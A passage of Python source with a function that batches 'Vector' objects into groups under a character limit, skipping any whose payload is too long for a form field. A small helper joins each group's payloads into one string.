    A vector longer than the limit is left out (a form would refuse it there).
    """
    groups: list[list[Vector]] = []
    current: list[Vector] = []
    length = 0
    for vector in vectors:
        size = len(vector.payload)
        if size > limit:
            continue
        extra = size if not current else size + len(separator)
        if current and length + extra > limit:
            groups.append(current)
            current, length, extra = [], 0, size
        current.append(vector)
        length += extra
    if current:
        groups.append(current)
    return groups


def joined(group: list[Vector], separator: str = " ") -> str:
    return separator.join(vector.payload for vector in group)
